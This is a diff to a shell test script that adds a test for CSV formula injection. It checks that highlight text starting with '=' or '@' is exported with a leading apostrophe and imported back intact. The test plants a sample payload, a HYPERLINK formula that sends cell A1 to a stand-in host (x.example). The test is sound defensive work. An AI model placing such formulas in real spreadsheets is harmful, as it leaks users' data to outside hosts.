@@ -75,6 +75,27 @@ check "export of the imported cards is the sheet again" $? "$out"
 out=$("$BIN" import "$S/again.csv" -o "$S/again" 2>&1) && diff -r "$S/cards-2021-csv" "$S/again" >/dev/null
 check "and imports to the same files" $? "$out"
 
+# A text a spreadsheet would run as a formula ("=HYPERLINK(...)", "@SUM(...)")
+# is exported with an apostrophe before it, and imported back without it.
+mkdir -p "$S/formula"
+sed -e '13s|<highlights>Sample text|<highlights>=HYPERLINK("http://x.example/?"\&amp;A1) Sample text|' \
+    -e '17s|<highlights>Placeholder|<highlights>@SUM(1,2) Placeholder|' "$ROOT/data/states/wyoming.xml" > "$S/formula/wyoming.xml"
+same_hl() { # the text of highlights number $1, before and after
+    python3 - "$1" "$S/formula/wyoming.xml" "$S/formula-back/wyoming.xml" <<'PY'
+import sys, xml.etree.ElementTree as ET
+k = int(sys.argv[1]) - 1
+a, b = ([h.text for h in ET.parse(f).iter('highlights')][k] for f in sys.argv[2:4])
+sys.exit(0 if a == b and a[0] in '=@' else 1)
+PY
+}
+out=$("$BIN" export "$S/formula" -o "$S/formula.csv" 2>&1)
+row=$(grep '^Wyoming,' "$S/formula.csv")
+printf '%s\n' "$row" | grep -qF '"'"'"'=HYPERLINK(""http://x.example/?""&A1) Sample text' &&
+    printf '%s\n' "$row" | grep -qF '"'"'"'@SUM(1,2) Placeholder' &&
+    "$BIN" import "$S/formula.csv" -o "$S/formula-back" >/dev/null 2>&1 &&
+    same_hl 1 && same_hl 2
+check "a text that reads as a formula is exported as '=..., and imported back as it was" $? "$out$(grep '^Wyoming' "$S/formula.csv" | cut -c1-300)"
+
 # One bad row: nothing is written, into a new folder or an existing one.
 sed 's/^Wyoming,2021,/Wyoming,2021x,/' "$ROOT/data/sheets/cards-2021.csv" > "$S/bad.csv"
 out=$("$BIN" import "$S/bad.csv" -o "$S/new" 2>&1); rc=$?
